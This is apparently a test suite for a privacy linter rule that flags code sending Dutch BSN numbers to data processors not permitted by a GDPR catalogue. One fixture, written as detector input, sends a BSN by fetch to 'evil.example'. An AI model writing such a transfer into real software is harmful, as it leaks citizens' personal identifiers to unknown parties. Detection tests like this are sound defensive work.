import * as assert from 'node:assert/strict';
import { analyseFile, renderStep, type Catalogue } from '@avglint/rules';
import * as ts from 'typescript';
import { both, brief, fileName, run, testCatalogue } from './program';

const T = ['no-unauthorised-transfer'] as const;

describe('flow: transfer end to end (fetch)', () => {
  it('reports a BSN sent to a processor that may not receive it, with and without types', () => {
    const code = [
      "const API = 'https://api.leermiddel.example/v1';",
      'export async function sync(leerling: { bsn: string; naam: string }) {',
      "  await fetch(`${API}/leerlingen`, { method: 'POST', body: JSON.stringify({ id: leerling.bsn }) });",
      '}',
    ].join('\n');
    const { untyped, typed } = both(code, { rules: [...T] });
    assert.deepEqual(untyped, ['no-unauthorised-transfer:unauthorisedTransfer:bsn>leermiddelen@id: leerling.bsn']);
    assert.deepEqual(typed, untyped);
  });

  it('does not report what the processor may receive', () => {
    const code = "export async function f(l: { bsn: string }) { await fetch('https://duo.nl/bron', { method: 'POST', body: JSON.stringify({ bsn: l.bsn }) }); }";
    assert.deepEqual(both(code, { rules: [...T] }), { untyped: [], typed: [] });
  });

  it('says what, why and what to do in the FG words, and carries the path', () => {
    const r = run("export function f(l: { bsn: string }) { const x = l.bsn; return fetch('https://api.leermiddel.example/x', { body: x }); }", { rules: [...T] });
    assert.equal(r.findings.length, 1);
    const f = r.findings[0];
    assert.ok(f);
    assert.equal(f.summary, 'Burgerservicenummer (BSN) → Uitgeverij Leermiddel: not allowed by the catalogue');
    assert.equal(
      f.detail,
      'Why: the catalogue does not list Burgerservicenummer (BSN) in `processors.leermiddelen.receives`; legal basis of Uitgeverij Leermiddel: performance of a contract (AVG art. 6(1)(b)); processing agreement (verwerkersovereenkomst) VWO-2024-017. A national identifying number may only be processed where a law requires it (AVG art. 87, UAVG art. 46).\n' +
        'What to do: send the ECK iD instead of Burgerservicenummer (BSN) (for example with `toEckId(…)`).',
    );
    assert.equal(f.message, `${f.summary}\n${f.detail}`);
    // In Dutch, every word avglint adds is Dutch; the FG's labels are used as written.
    const nl = run("export function f(l: { bsn: string }) { const x = l.bsn; return fetch('https://api.leermiddel.example/x', { body: x }); }", { rules: [...T], locale: 'nl' }).findings[0];
    assert.equal(nl?.summary, 'Burgerservicenummer (BSN) → Uitgeverij Leermiddel: niet toegestaan door de catalogus');
    assert.equal(
      nl?.detail,
      'Waarom: de catalogus noemt Burgerservicenummer (BSN) niet in `processors.leermiddelen.receives`; grondslag van Uitgeverij Leermiddel: uitvoering van een overeenkomst (AVG art. 6 lid 1 sub b); verwerkersovereenkomst VWO-2024-017. Een nationaal identificatienummer mag alleen worden verwerkt waar een wet dat vereist (AVG art. 87, UAVG art. 46).\n' +
        'Wat te doen: stuur ECK iD in plaats van Burgerservicenummer (BSN) (bijvoorbeeld met `toEckId(…)`).',
    );
    assert.deepEqual(f.path.map((s) => s.kind), ['source', 'step', 'sink']);
    assert.equal(f.path[0]?.line, 1);
    assert.match(f.path[0]?.description ?? '', /reads `l\.bsn`/);
    assert.match(f.path[2]?.description ?? '', /sent by `fetch` to Uitgeverij Leermiddel/);
  });

  it('reports an unknown host and, only when asked, an unresolved destination', () => {
    const unknown = "export function f(bsn: string) { return fetch('https://evil.example/x', { body: bsn }); }";
    assert.deepEqual(brief(run(unknown, { rules: [...T] })), ['no-unauthorised-transfer:unknownDestination:bsn@bsn']);
    assert.deepEqual(brief(run(unknown, { rules: [...T], ruleOptions: { 'no-unauthorised-transfer': { reportUnknownDestinations: false } } })), []);
    const unresolved = 'declare const url: string;\nexport function f(bsn: string) { return fetch(url, { body: bsn }); }';
    assert.deepEqual(brief(run(unresolved, { rules: [...T] })), []);
    assert.deepEqual(brief(run(unresolved, { rules: [...T], ruleOptions: { 'no-unauthorised-transfer': { reportUnresolvedDestinations: true } } })), ['no-unauthorised-transfer:unresolvedDestination:bsn@bsn']);
    // A URL parameter no call in the file gives a value: the caller decides where the data goes, not this function.
    const open = 'export function f(bsn: string, url: string) { return fetch(url, { body: bsn }); }';
    assert.deepEqual(brief(run(open, { rules: [...T], ruleOptions: { 'no-unauthorised-transfer': { reportUnresolvedDestinations: true } } })), []);
  });

  it('a cancelled run returns what it has and is not cached: the next run sees every flow', () => {
    // Parsed only (no rule runs), so nothing is cached for this file yet.
    const r = run("export function f(l: { bsn: string }) { return fetch('https://api.leermiddel.example/x', { body: l.bsn }); }", { rules: [] });
    assert.equal(r.findings.length, 0);
    // Cancelled from inside the flow walk (and from then on), not by the orchestrator before the check starts.
    let inWalk = false;
    const isCancelled = (): boolean => (inWalk ||= (new Error().stack ?? '').includes('fileFlows'));
    const cancelled = analyseFile({ sourceFile: r.sourceFile, catalogue: testCatalogue(), options: { rules: new Set(T) }, isCancelled });
    assert.equal(inWalk, true);
    assert.equal(cancelled.cancelled, true);
    assert.deepEqual(cancelled.findings, []);
    const again = analyseFile({ sourceFile: r.sourceFile, catalogue: testCatalogue(), options: { rules: new Set(T) } });
    assert.equal(again.cancelled, false);
    assert.equal(again.findings.length, 1);
  });

  it('analyses a file parsed without parent pointers (a program used without its checker)', () => {
    const text = "export function f(l: { bsn: string }) { return fetch('https://api.leermiddel.example/x', { body: l.bsn }); }";
    const sourceFile = ts.createSourceFile(fileName('src/main.ts'), text, ts.ScriptTarget.ES2022, false);
    const result = analyseFile({ sourceFile, catalogue: testCatalogue() });
    assert.deepEqual(result.problems, []);
    assert.deepEqual(result.findings.map((f) => f.ruleId), ['no-unauthorised-transfer']);
  });
});

describe('flow: URLs a processor hands out (issue 9)', () => {
  const code = [
    "import axios from 'axios';",
    'export class Sessie {',
    '  private baseUrl!: string;',
    '  async login() {',
    "    const { data } = await axios.post('https://api.leermiddel.example/oauth/token', { grant_type: 'password' });",
    "    this.baseUrl = data.api_url + '/v1';",
    '  }',
    '  stuur(leerling: { bsn: string }) {',
    "    return axios.post(this.baseUrl + '/leerlingen', { nummer: leerling.bsn });",
    '  }',
    '}',
  ].join('\n');

  it('names the processor whose response gave the URL, with a path step at the request', () => {
    for (const typed of [false, true]) {
      const r = run(code, { rules: [...T], typed });
      assert.deepEqual(brief(r), ['no-unauthorised-transfer:unauthorisedTransfer:bsn>leermiddelen@nummer: leerling.bsn']);
      const path = r.findings[0]?.path ?? [];
      const step = path[path.length - 2];
      assert.equal(step?.kind, 'step');
      assert.equal(step?.description, 'URL from the response of Uitgeverij Leermiddel at main.ts:5');
      assert.equal(step && renderStep(step.phrase, 'nl'), 'URL uit het antwoord van Uitgeverij Leermiddel op main.ts:5');
      assert.equal(step?.line, 5);
      assert.equal(step?.column, 28);
      assert.match(path[path.length - 1]?.description ?? '', /sent by `axios.post` to Uitgeverij Leermiddel/);
    }
  });

  it('treats such URLs as unresolved when the catalogue says so, a host option winning over the catalogue', () => {
    const catalogue: Catalogue = { ...testCatalogue(), settings: { rules: { 'no-unauthorised-transfer': { attributeResponseUrls: false, reportUnresolvedDestinations: true } } } };
    assert.deepEqual(brief(run(code, { rules: [...T], catalogue })), ['no-unauthorised-transfer:unresolvedDestination:bsn@nummer: leerling.bsn']);
    const sourceFile = ts.createSourceFile(fileName('src/main.ts'), code, ts.ScriptTarget.ES2022, true);
    const result = analyseFile({ sourceFile, catalogue, options: { rules: new Set(T), ruleOptions: { 'no-unauthorised-transfer': { attributeResponseUrls: true } } } });
    assert.deepEqual(result.findings.map((f) => f.messageId), ['unauthorisedTransfer']);
    assert.deepEqual(result.problems.map((p) => p.code), ['settings/conflict']);
  });
});
